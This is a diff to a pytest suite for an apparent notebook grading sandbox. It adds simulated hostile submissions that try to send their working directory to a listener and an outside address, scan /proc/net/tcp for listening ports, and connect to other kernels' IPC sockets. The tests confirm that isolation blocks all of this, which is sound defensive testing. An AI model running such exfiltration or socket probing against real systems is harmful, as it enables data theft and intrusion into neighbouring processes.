@@ -180,12 +180,96 @@ HOSTILE = {
         """, ""), 0.0, True),
 }
 HONEST = {"ada": (sub.solution(AID), 3.0), "bob": (sub.with_function(AID, "regularized_cost", HALF), 2.0)}
+SOLVED = sub.solution(AID).cells[3].source
+
+
+def network_attacks(port: int) -> dict:
+    """Two submissions that try the network, then solve the exercise. As root their kernels
+    have no network: every attempt fails, and they are graded like anyone else (3 points).
+
+    - ``network-exfiltration`` sends its working folder to a listener of this test on
+      127.0.0.1 and tries a host elsewhere;
+    - ``other-kernels`` connects to every listening TCP port it can see and to the IPC
+      sockets of the other kernels graded at the same time; if it reaches any, it keeps a
+      wrong answer, so its score shows whether it got through.
+    """
+    exfiltrate = attack(f"""
+        import os, socket
+        for address in [("127.0.0.1", {port}), ("10.255.255.1", 80)]:
+            try:
+                with socket.create_connection(address, timeout=2) as connection:
+                    connection.sendall(os.getcwd().encode())
+            except OSError:
+                pass
+        """, SOLVED)
+    other_kernels = attack("""
+        import glob, os, socket
+        reached = []
+        for table in ["/proc/net/tcp", "/proc/net/tcp6"]:
+            try:
+                rows = [line.split() for line in open(table).read().splitlines()[1:]]
+            except OSError:
+                continue
+            for row in rows:
+                if row[3] == "0A":  # listening
+                    port = int(row[1].rsplit(":", 1)[1], 16)
+                    try:
+                        socket.create_connection(("127.0.0.1", port), timeout=1).close()
+                        reached.append(port)
+                    except OSError:
+                        pass
+        for path in glob.glob("/tmp/regcourse-sandboxes-*/*/ipc-*") + glob.glob("/tmp/*/ipc-*"):
+            if os.path.dirname(path) == os.getcwd():
+                continue
+            unix = socket.socket(socket.AF_UNIX)
+            try:
+                unix.connect(path)
+                reached.append(path)
+            except OSError:
+                pass
+            finally:
+                unix.close()
+        """, SOLVED + "\n\nif reached:\n    def regularized_cost(X, y, w, lam):\n        return 0.0\n")
+    return {"network-exfiltration": (exfiltrate, 3.0, False), "other-kernels": (other_kernels, 3.0, False)}
 
 
 @pytest.fixture(scope="module")
-def graded(tmp_path_factory):
+def listener():
+    """A TCP listener on 127.0.0.1 that records every connection it accepts."""
+    import socket
+    import threading
+
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(0.2)
+    received: list[bytes] = []
+    stop = threading.Event()
+
+    def serve():
+        while not stop.is_set():
+            try:
+                connection, _ = server.accept()
+            except OSError:
+                continue
+            with connection:
+                connection.settimeout(2)
+                try:
+                    received.append(connection.recv(4096))
+                except OSError:
+                    received.append(b"")
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    yield server.getsockname()[1], received
+    stop.set()
+    thread.join()
+    server.close()
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory, listener):
     root = tmp_path_factory.mktemp("hostile") / "course"
-    students = {**{s: copy.deepcopy(v[0]) for s, v in HOSTILE.items()},
+    network = network_attacks(listener[0])
+    students = {**{s: copy.deepcopy(v[0]) for s, v in {**HOSTILE, **network}.items()},
                 **{s: copy.deepcopy(v[0]) for s, v in HONEST.items()}}
     course = sub.class_folder(root, AID, students)
     limits = Limits(cell_seconds=10, submission_seconds=90)
@@ -214,6 +298,17 @@ def test_hostile_submission_earns_only_what_it_solved(student, graded):
     assert r.score == expected, f"{student}: {r.score} points instead of {expected}: {report}"
     assert bool(r.tampering) == tampering, f"{student}: tampering reported = {r.tampering}"
     assert [s.score for s in course.scores(AID, student)] == [i.score for i in r.items]
+
+
+@pytest.mark.skipif(not sandbox.is_root(), reason="kernels lose the network only when grading as root")
+@pytest.mark.parametrize("student", ["network-exfiltration", "other-kernels"])
+def test_kernels_reach_no_network_and_are_still_graded(student, graded, listener):
+    course, results = graded
+    r = results[student]
+    report = " | ".join(r.tampering + r.problems + [i.message for i in r.items])
+    assert r.score == 3.0 and not r.tampering, f"{student}: {r.score} points: {report}"
+    assert listener[1] == [], f"a graded kernel reached the test's listener and sent {listener[1]}"
+    assert "no network" in r.isolation
 
 
 @pytest.mark.parametrize("student", HONEST)
